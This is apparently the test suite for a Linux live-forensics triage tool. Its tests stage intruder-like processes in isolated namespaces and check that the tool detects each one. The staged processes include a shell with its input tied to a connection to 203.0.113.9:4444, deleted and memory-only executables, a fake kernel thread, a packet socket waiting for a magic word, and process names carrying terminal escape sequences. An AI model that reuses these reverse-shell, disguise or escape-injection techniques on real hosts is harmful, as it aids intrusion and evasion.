# live.bats - living processes of an intruder's shapes, in namespaces of their
# own below a small root: nothing of them is seen, or left, outside.
#
# shellcheck shell=bash disable=SC1091,SC2016,SC2030,SC2031,SC2154
. "$BATS_TEST_DIRNAME/lib.sh"
. "$BATS_TEST_DIRNAME/living.sh"

@test "live/nothing: processes that do nothing odd" {
	look <<-'EOT'
	act ready /tmp/ready.idle wait &
	act connect 203.0.113.9 4444 ready /tmp/ready.client wait &
	ready idle client
	collect
	EOT
	cat "$root/out.err"
	[ "$collect_status" -eq 0 ]
	[ "$analyze_status" -eq 0 ]
	[ -z "$(found respond)$(found watch)" ]
	[ "$(verdict)" = 'nothing found' ]
	event '.event.dataset == "processes" and .process.name == "act" and
		.process.args[1] == "connect"'
	event '.event.dataset == "sockets" and .destination.port == 4444 and
		.destination.ip == "203.0.113.9"'
}

@test "live/shell: a shell with its standard input on a connection" {
	look <<-'EOT'
	act connect 203.0.113.9 4444 ready /tmp/ready.shell stdio exec sh &
	ready shell
	collect
	EOT
	responds proc_shell_on_network_socket.yml
	[ "$(verdict)" = respond ]
	event '.event.dataset == "processes" and
		.process.executable == "/usr/bin/sh" and
		.konseki.process.stdio_socket and
		(.konseki.process.stdio_remote_ip |
		 tostring | contains("203.0.113.9"))'
	jq -e 'select(.tier == "respond") | .active == "process"' \
		"$case_file.findings"
	grep -q 'proc' "$case_file.verdict"
	run "$konseki" analyze -q "$dir/live.tar.zst" -o "$dir/live.2.case" \
		--fail-on respond
	[ "$status" -eq 1 ]
}

@test "live/deleted: an executable that is gone, with a connection" {
	look <<-'EOT'
	act deleted /tmp/.x connect 203.0.113.9 4444 open /tmp/.keys \
		ready /tmp/ready.x wait &
	ready x
	collect
	EOT
	found respond | grep -qx 'respond proc_deleted_exe_with_socket.yml'
	event '.konseki.process.executable_deleted and
		(.process.executable | startswith("/tmp/.x"))'
	# both the program and the open file are in the archive, whole
	"$konseki" extract -q "$dir/live.tar.zst" 'recovered/**' \
		-o "$dir/live.out"
	find "$dir/live.out" -type f -exec cmp -s {} "$plant/act" \; -print |
		grep -q .
	grep -rqx 'kept open' "$dir/live.out"
}

@test "live/memfd: an executable that was only in memory" {
	look <<-'EOT'
	act memfd kdata connect 203.0.113.9 4444 ready /tmp/ready.m wait &
	ready m
	collect
	EOT
	found respond | grep -qx 'respond proc_memfd_exe_with_socket.yml'
	event '.konseki.process.executable_memfd and
		(.process.executable | contains("memfd:kdata"))'
	"$konseki" extract -q "$dir/live.tar.zst" 'recovered/**' \
		-o "$dir/live.out"
	find "$dir/live.out" -type f -exec cmp -s {} "$plant/act" \; -print |
		grep -q .
}

@test "live/kernel thread: a process that calls itself one" {
	look <<-'EOT'
	act argv0 '[kworker/0:1-events]' comm kworker/0:1 \
		ready /tmp/ready.k wait &
	ready k
	collect
	EOT
	responds proc_fake_kernel_thread.yml
	event '.process.name == "kworker/0:1" and
		.konseki.process.name_bracketed and
		.process.executable == "/usr/bin/act"'
}

@test "live/hostile names: what a process calls itself reaches no terminal" {
	look <<-'EOT'
	esc=$(printf '\033[2J\033]0;x\007\n\377\302\205')
	act argv0 "[kworker/0:1$esc]" comm "kworker/$esc" \
		ready /tmp/ready.h wait &
	ready h
	collect
	EOT
	responds proc_fake_kernel_thread.yml
	"$konseki" findings --format text "$case_file" >"$dir/live.text"
	for file in "$case_file.verdict" "$case_file.events" \
		"$case_file.findings" "$dir/live.text"; do
		[ "$(tr -d '\n' <"$file" | tr -cd '\000-\037' | wc -c)" -eq 0 ]
	done
	event '.konseki.process.argv0 | startswith("[kworker/0:1\u001b[2J")' ||
		event '.konseki.process.argv0 | startswith("[kworker/0:1")'
	[ -n "$(jq -r '.. | objects | keys[] | select(endswith("_b64"))' \
		"$case_file.events")" ]
}

@test "live/namespace: a listener in another network namespace" {
	look <<-'EOT'
	act netns lo 198.51.100.7 listen 0.0.0.0 31337 ready /tmp/ready.n wait &
	ready n
	collect
	EOT
	event '.event.dataset == "sockets" and
		(.source.port == 31337 or .server.port == 31337 or
		 .konseki.socket.local_port == 31337 or
		 .destination.port == 31337)'
	event '(.process.name // "") == "act" and
		(tostring | contains("31337"))'
}

@test "live/access times: none changed on files, directories and links" {
	ln -sf ../etc/passwd "$root/home/link"
	find "$root"/{etc,var,home} -print0 >"$dir/names"
	xargs -0 touch -h -a -d '3 days ago' <"$dir/names"
	xargs -0 stat -c '%F %x %n' <"$dir/names" >"$dir/before"
	look <<-'EOT'
	collect --hash all
	EOT
	xargs -0 stat -c '%F %x %n' <"$dir/names" | diff "$dir/before" -
	tar --zstd -tf "$dir/live.tar.zst" | grep -qx files/etc/passwd
}

@test "live/triage: one command, the verdict in both languages" {
	{ printf '%s' "$prologue"; cat; } <<-'EOT' | inside
	act connect 203.0.113.9 4444 ready /tmp/ready.shell stdio exec sh &
	ready shell
	for lang in en ja; do
		konseki triage --here -o /out.$lang --lang $lang >/out.$lang.text \
			2>/out.err
		echo $? >/out.$lang.status
	done
	EOT
	cat "$root/out.err"
	for lang in en ja; do
		[ "$(cat "$root/out.$lang.status")" -eq 0 ]
		[ "$(find "$root/out.$lang" -name '*.tar.zst' | wc -l)" -eq 1 ]
		[ "$(find "$root/out.$lang" -name '*.case' | wc -l)" -eq 1 ]
		[ -z "$(find "$root/out.$lang" -name '*.partial')" ]
		[ -z "$(find "$root/out.$lang" -type f ! -perm 600)" ]
	done
	grep -q '^VERDICT: respond' "$root/out.en.text"
	grep -q '^Active now' "$root/out.en.text"
	grep -q '203.0.113.9' "$root/out.en.text"
	grep -q '即時対応' "$root/out.ja.text"
	# not one English sentence is left where both are said
	[ "$(grep -cE 'VERDICT|Active now|Next steps' \
		"$root/out.ja.text")" -eq 0 ]
		rm -rf "$root"/out.*
}

@test "live/packet: a packet socket that waits for a magic word" {
	look <<-'EOT'
	act netns packet 7255 ready /tmp/ready.p wait &
	ready p
	collect
	EOT
	responds socket_filter_magic.yml
	event '.event.dataset == "sockets" and .process.name == "act" and
		.network.transport == "packet" and
		.konseki.socket.filter_length == 4 and
		(.konseki.socket.filter_constants | tostring |
		 contains("0x7255")) and
		(.konseki.socket.filter_sha256 | length) == 64'
}

@test "live/ebpf: a program, who holds it, and when it cannot be asked" {
	look <<-'EOT'
	act ebpf konseki_door ready /tmp/ready.e wait 2>/tmp/ebpf.err &
	n=0
	while [ ! -e /tmp/ready.e ] && [ ! -s /tmp/ebpf.err ] &&
		[ $n -lt 500 ]; do sleep 0.01; n=$((n + 1)); done
	collect
	EOT
	[ -e "$root/tmp/ready.e" ] || skip 'no program may be loaded here'
	[ -z "$(found respond)" ]
	if [ -n "${UNDER-}" ]; then # bpf(2) is not there, or forbidden
		event '.konseki.status.probe == "bpf" and
			(.konseki.status.state == "denied" or
			 .konseki.status.state == "skipped") and
			.konseki.status.errno > 0'
		refute event '.event.dataset == "bpf"' 2>/dev/null
		return
	fi
	event '.event.dataset == "bpf" and
		.konseki.bpf.name == "konseki_door" and
		.konseki.bpf.type == "socket_filter" and
		.process.name == "act" and
		(.konseki.bpf.tag | length) == 16 and
		.konseki.bpf.orphan != true'
}

@test "live/stuck: a file that never answers, on a living host" {
	[ -c /dev/fuse ] || skip 'no /dev/fuse here'
	mknod -m 600 "$root/dev/fuse" c 10 229 || skip 'no device here'
	cp "$plant/hangfs" "$root/usr/bin/hangfs"
	mkdir -p "$root/var/log/app"
	{ printf '%s' "$prologue"; cat; } <<-'EOT' | inside
	hangfs /var/log/app 'a.log!' 'run.sh!' b.log >/tmp/ready.fs &
	n=0
	while [ ! -s /tmp/ready.fs ] && [ $n -lt 200 ]; do
		sleep 0.01; n=$((n + 1)); done
	collect --deadline 2 --local-type fuse.hangfs --summary /out.summary
	EOT
	rm "$root/dev/fuse" "$root/usr/bin/hangfs"
	[ -s "$root/tmp/ready.fs" ] || skip 'nothing can be mounted here'
	took=$(jq '.duration_ns / 1000000 | floor' "$root/out.summary")
	note "live/stuck: deadline 2 s, $took ms in all," \
		"status $(cat "$root/out.status")"
	[ "$(cat "$root/out.status")" -eq 3 ]
	[ "$took" -ge 2000 ]
	# the processes and sockets of this root need a second themselves
	[ "$took" -le 4500 ]
	"$konseki" verify -q "$root/out.tar.zst"
	tar --zstd -tf "$root/out.tar.zst" | grep -qx files/etc/passwd
}

@test "live/all: every shape at once, each found" {
	look <<-'EOT'
	act connect 203.0.113.9 4444 ready /tmp/ready.shell stdio exec sh &
	act deleted /tmp/.x connect 203.0.113.9 4444 ready /tmp/ready.x wait &
	act memfd kdata connect 203.0.113.9 4444 ready /tmp/ready.m wait &
	act argv0 '[kworker/0:1-events]' comm kworker/0:1 \
		ready /tmp/ready.k wait &
	ready shell x m k
	collect
	EOT
	for rule in proc_shell_on_network_socket proc_fake_kernel_thread \
		proc_deleted_exe_with_socket proc_memfd_exe_with_socket; do
		found respond | grep -qx "respond $rule.yml"
	done
	note "live: $(wc -l <"$case_file.events") events," \
		"$(count_of respond) respond, $(count_of watch) watch," \
		"$(count_of note) note"
	[ -z "$(pgrep -f "$root" || :)" ]
}
